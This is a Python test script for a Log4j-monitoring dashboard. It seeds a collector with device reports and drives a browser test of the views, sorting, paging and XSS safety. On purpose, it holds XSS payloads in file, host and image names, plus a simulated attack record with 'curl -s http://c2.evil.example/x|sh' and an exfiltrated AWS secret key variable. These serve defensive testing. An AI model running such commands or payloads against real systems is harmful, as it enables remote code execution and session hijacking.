"""t_server_browser.py - the dashboard in Debian's chromium (playwright-core).

Seeds a collector (SQLite) with reports - among them hostile file and host
names - computes the overview numbers from those reports, and runs
tests/browser/dashboard.test.js, which logs in, compares, drills down and
checks that nothing hostile runs; then the views of issue 20 (severity,
files counted once, exposure, coverage, images) and its point 8 (sorting
by a column's header, paging with a total, evidence behind a disclosure,
long paths on one line, the trend's legend and axes, the mark and the
overview line of a rules change after `rules load`, and on a second,
empty collector the enrolment hint).  Screenshots of the
overview, a device's coverage, the files by severity and the images view are
saved as $OUT/overview.png, device-coverage.png, files-severity.png,
images.png, attempts.png, narrow.png, devices-sorted.png, devices-page2.png,
files-evidence.png, device-sorted.png and empty.png; and a device page's
tables sorted by a header click and paged in the browser.  playwright-core is installed from the npm registry
(tests/browser/package-lock.json) when tests/browser/node_modules is missing.
"""
import json
import os
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from server_common import (BROWSER_DIR, browser_ready, OUT, TOP, Server, attempt, check, cli, db_sql, envelope, finding, make_token,  # noqa: E402
                           make_user, mid, new_db, not_ok, ok, process, report)

if not browser_ready():
    sys.exit(1)

db = new_db("sqlite", "browser")
agent = make_token(db, "fleet")
make_user(db, "alice", "s3cret-passw0rd")
s = Server(db, name="browser")

SHARED = "b" * 64
HOSTILE_PATHS = ['/srv/<img src=x onerror="window.__xss=1;alert(1)">.jar',
                 "/srv/<script>window.__xss=2</script>/log4j-core-2.14.1.jar"]
HOSTILE_PAYLOAD = "curl -s http://c2.evil.example/x|sh <img src=x onerror=\"window.__xss=5\">"
HOSTILE_HOST = "<b>evil</b>-host\"'><img src=x onerror=alert(3)>"
reports = []
# 6 devices: web1 exposed and attacked, web2 exposed, db1 vulnerable not listening,
# app1 mitigated, lap1 safe, and the hostile one
reports.append(report(envelope(mid(1), "web1"), [
    finding("/srv/shop.war!/WEB-INF/lib/log4j-core-2.14.1.jar", sha256=SHARED),
    # the running JVM's copy of the same file: one file, "loaded by pid 101"
    finding("/srv/shop.war!/WEB-INF/lib/log4j-core-2.14.1.jar", sha256=SHARED, pid=101),
    finding("/opt/tools/log4j-core-2.16.0.jar", version="2.16.0", status="mitigated", cves=["CVE-2021-45105"]),
    process(pid=101, status="vulnerable", ports=[8080], restart=True), attempt(10),
    dict(attempt(11, host="c2.evil.example"), exfil=["env:AWS_SECRET_ACCESS_KEY"], payload=HOSTILE_PAYLOAD)]))
reports.append(report(envelope(mid(2), "web2"), [
    finding("/srv/api.jar!/BOOT-INF/lib/log4j-core-2.14.1.jar", sha256=SHARED),
    process(pid=202, status="vulnerable", ports=[8443])]))
reports.append(report(envelope(mid(3), "db1"), [
    finding("/opt/db/log4j-core-2.14.1.jar", sha256=SHARED), process(pid=303, status="vulnerable", ports=[])]))
reports.append(report(envelope(mid(4), "app1", tags=["staging"]), [
    finding("/opt/app/log4j-core-2.15.0.jar", version="2.15.0", status="mitigated", cves=["CVE-2021-45046"]),
    process(pid=404, status="mitigated", ports=[9000], restart=True)]))
# issue 20 point 8: a path far wider than its column (kept on one line, its
# file name visible)
LONG_PATH = "/home/u/" + "a-rather-long-directory-name/" * 8 + "log4j-core-2.17.1.jar"
reports.append(report(envelope(mid(5), "lap1", tags=["dev"]), [
    finding("/home/u/log4j-core-2.17.1.jar", version="2.17.1", status="safe", cves=[]),
    finding(LONG_PATH, version="2.17.1", status="safe", cves=[])]))
reports.append(report(envelope(mid(6), HOSTILE_HOST), [finding(p) for p in HOSTILE_PATHS]))
# issue 20: a JVM listening on loopback only (not exposed), a partly scanned
# device without findings (never "clean"), a fully scanned clean one, and a
# container node whose image has a jar a later layer deleted
WHOLE = {"whole_host": True, "paths": ["/"], "processes": True, "exclude": []}
IMG = "registry.example:5000/shop/web"
HOSTILE_IMAGE = "<img src=x onerror=alert(4)>"
lo = process(pid=505, status="vulnerable", ports=[])
lo["listening"] = [{"proto": "tcp", "addr": "127.0.0.1", "port": 8005}, {"proto": "tcp", "addr": "::1", "port": 8005}]
reports.append(report(envelope(mid(7), "lo1"), [finding("/opt/lo/log4j-core-2.14.1.jar"), lo]))
part = envelope(mid(8), "part1")
part["coverage"] = {"whole_host": False, "paths": ["/srv"], "processes": False}
reports.append(report(part, []))
full = envelope(mid(9), "full1")
full["coverage"] = WHOLE
reports.append(report(full, [finding("/home/f/log4j-core-2.17.1.jar", version="2.17.1", status="safe", cves=[])]))
node = envelope(mid(10), "k8s-node")
node["coverage"] = WHOLE
img1 = finding("web.tar!/sha256:aaa!/app/log4j-core-2.14.1.jar")
img1.update(image=IMG, tag="2.3", layer="sha256:aaa", in_final_image=True)
img2 = finding("web.tar!/sha256:bbb!/old/log4j-core-2.14.1.jar")
img2.update(image=IMG, tag="2.3", layer="sha256:bbb", in_final_image=False, note="deleted by a later layer")
img3 = finding("x.tar!/sha256:ccc!/log4j-core-2.17.1.jar", version="2.17.1", status="safe", cves=[])
img3.update(image=HOSTILE_IMAGE, tag="1", layer="sha256:ccc")
reports.append(report(node, [img1, img2, img3]))
# issue 22: a finding with facts that the rules loaded below judge again (a
# fictional CVE for 2.14.x-2.17.x): vulnerable before and after (the
# overview's file counts do not move), one more CVE after
RJ_PATH = "/srv/rj/log4j-core-2.14.1.jar"
reports.append(report(envelope(mid(11), "rj1"), [dict(finding(RJ_PATH), facts="v1 set=2.14.1 pom=2.14.1 +lookup/JndiLookup")]))
# issue 20 point 8: a device with more rows than a page (60 files, mixed-case
# paths, whose case-insensitive order differs from the byte order) and
# processes whose PIDs sort differently as numbers and as text: the device
# page's tables sort in the browser and page past 50 rows
MANY_NAMES = ["%s%02d" % (w, i) for i, w in enumerate(["alpha", "Beta", "gamma", "Delta", "epsilon", "Zeta"] * 10)]
many_pids = [1000, 9, 100, 10, 2, 20000, 31, 7]
reports.append(report(envelope(mid(12), "many1"),
                      [finding("/opt/many/%s/log4j-core-2.17.1.jar" % n, version="2.17.1", status="safe", cves=[])
                       for n in MANY_NAMES] + [process(pid=p, status="safe", ports=[]) for p in many_pids]))
for i, r in enumerate(reports):
    st, js = s.submit(agent, r)
    check("seed-report-%d" % i, st == 200, (st, js))
RULES_EXTRA = ('\ncve CVE-2099-0001 log4j-core 9.3 "fictional"\naffected CVE-2099-0001 2.14.0 2.18.0\n'
               "fixed CVE-2099-0001 2.18.0\nmitigated-if-absent CVE-2099-0001 lookup/JndiLookup\n")
rules_file = os.path.join(OUT, "browser.rules")
with open(rules_file, "w") as f:
    f.write(open(os.path.join(TOP, "rules/log4j.rules")).read() + RULES_EXTRA)
p = cli(db, "rules", "load", rules_file)
check("rules-load", p.returncode == 0, p.stderr)
reader = make_token(db, "reader", "read")
changes = s.get_json("/api/v1/rules/changes", reader)["changes"]
rj = [c for c in changes if c["cve"] == "CVE-2099-0001"]
check("rules-change-listed", len(rj) == 1 and rj[0]["newly"] == 1, changes)
st, h, data = s.get("/api/v1/findings?path=/srv/rj/", reader)
rjf = json.loads(data)["items"] if st == 200 else []
check("rules-rejudged-still-vulnerable", len(rjf) == 1 and rjf[0]["status"] == "vulnerable"
      and "CVE-2099-0001" in rjf[0]["cves"], rjf)
rules_id = rj[0]["rules_id"] if rj else 1

# an empty collector (issue 20 point 8: the overview says how to enroll)
db_empty = new_db("sqlite", "browser-empty")
make_user(db_empty, "alice", "s3cret-passw0rd")
s_empty = Server(db_empty, name="browser-empty")

# the numbers the overview must show, computed from the reports above
recs = [json.loads(line) for r in reports for line in r.splitlines()]
# a file is counted once: a JVM's copy of a file its device lists is not one
fnd = []
for r in reports:
    rr = [json.loads(line) for line in r.splitlines()]
    disk = {x["path"] for x in rr if x["kind"] == "finding" and "pid" not in x}
    fnd += [x for x in rr if x["kind"] == "finding" and not ("pid" in x and x["path"] in disk)]
procs = [x for x in recs if x["kind"] == "process"]


def reachable(p):
    return p["status"] == "vulnerable" and any(not (a["addr"].startswith("127.") or a["addr"] == "::1")
                                               for a in p["listening"])


crit_exposed = 0
for r in reports:
    rr = [json.loads(line) for line in r.splitlines()]
    crit = {x["pid"] for x in rr if x["kind"] == "finding" and "pid" in x and x["severity"] == "critical"
            and x["status"] == "vulnerable"}
    crit_exposed += any(reachable(x) and x["pid"] in crit for x in rr if x["kind"] == "process")
expect = {
    "devices": len(reports),
    "devices_exposed": sum(1 for r in reports if any(reachable(x) for x in map(json.loads, r.splitlines())
                                                     if x["kind"] == "process")),
    "devices_exposed_attacked": 1, "devices_attacked": 1,
    "vulnerable": sum(1 for f in fnd if f["status"] == "vulnerable"),
    "mitigated": sum(1 for f in fnd if f["status"] == "mitigated"),
    "safe": sum(1 for f in fnd if f["status"] == "safe"),
    "restart": sum(1 for p in procs if p["restart_required"]),
    "attempts": sum(1 for x in recs if x["kind"] == "attempt"),
    "exposed_hosts": ["web1", "web2"],
    "exposed_path": "/srv/shop.war!/WEB-INF/lib/log4j-core-2.14.1.jar",
    "shared_label": "log4j-core 2.14.1",
    "hostile_host": HOSTILE_HOST, "hostile_host_query": "evil", "hostile_paths": HOSTILE_PATHS,
    "devices_critical_exposed": crit_exposed,
    "loaded_pid": 101, "loopback_host": "lo1", "partial_host": "part1", "clean_host": "full1",
    "image": IMG, "hostile_image": HOSTILE_IMAGE, "image_host": "k8s-node",
    "hostile_payload": HOSTILE_PAYLOAD, "callback_domain": "evil.example",
    "top_cve": "CVE-2021-44228", "top_cve_title_word": "Log4Shell", "top_cve_cvss": "10.0",
    # issue 20 point 8 and issue 22
    "hostnames_sorted": sorted(json.loads(r.splitlines()[0])["host"]["hostname"] for r in reports),
    "long_path": LONG_PATH, "rules_cve": "CVE-2099-0001", "rules_id": rules_id, "rules_host": "rj1",
    "empty_base": "http://127.0.0.1:%d" % s_empty.port,
    "many_host": "many1", "many_files": len(MANY_NAMES), "many_pids": sorted(many_pids),
}
# yesterday's trend row (UTC): the overview's cards show the change since it
YDAY = time.strftime("%Y-%m-%d", time.gmtime(time.time() - 86400))
db_sql(db, "INSERT INTO trend(day, devices, devices_vulnerable, exposed, attacked, vulnerable, mitigated, safe, restart,"
           " attempts) VALUES('%s', 4, 3, 2, 0, %d, %d, 0, 1, 0)" % (YDAY, expect["vulnerable"] + 3, expect["mitigated"]))
expect["since_deltas"] = {"devices": expect["devices"] - 4, "devices_exposed": expect["devices_exposed"] - 2,
                          "devices_attacked": 1, "vulnerable": -3, "mitigated": 0, "safe": expect["safe"],
                          "restart": expect["restart"] - 1, "attempts": expect["attempts"]}
exp_file = os.path.join(OUT, "expect.json")
with open(exp_file, "w") as f:
    json.dump(expect, f)

p = subprocess.run(["node", os.path.join(BROWSER_DIR, "dashboard.test.js"), "http://127.0.0.1:%d" % s.port,
                    "alice", "s3cret-passw0rd", exp_file, OUT],
                   capture_output=True, text=True, timeout=300, env=dict(os.environ, NODE_PATH=""))
sys.stdout.write(p.stdout)
sys.stdout.flush()
if p.stderr.strip():
    sys.stderr.write(p.stderr)
check("browser-test-exit", p.returncode == 0, "node exited %d: %s" % (p.returncode, p.stderr[-300:]))
check("server-alive", s.alive())
rc = s.stop()
check("clean-exit", rc == 0, s.log_text()[-300:])
rc = s_empty.stop()
check("clean-exit-empty", rc == 0, s_empty.log_text()[-300:])
